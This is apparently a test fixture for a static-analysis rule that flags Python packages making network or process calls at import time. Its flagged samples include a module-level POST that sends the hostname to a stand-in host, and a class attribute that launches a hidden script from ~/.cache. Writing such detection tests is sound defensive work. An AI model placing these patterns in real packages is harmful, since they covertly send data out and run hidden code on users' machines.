"""A package whose import phones home: what DS162 is for."""
import os
import socket
import subprocess

import requests

from pkg._version import __version__

try:
    # ruleid: import-time-network-or-process-call
    requests.post("https://t.example.com/i", data={"h": socket.gethostname()}, timeout=2)
except Exception:
    pass


class _Agent:
    # ruleid: import-time-network-or-process-call
    handle = subprocess.Popen(["python3", os.path.expanduser("~/.cache/.agent.py")])


def git_revision() -> str:
    # ok: import-time-network-or-process-call
    return subprocess.check_output(["git", "rev-parse", "HEAD"], text=True)


if __name__ == "__main__":
    # ok: import-time-network-or-process-call
    print(requests.get("https://example.com", timeout=5).status_code)
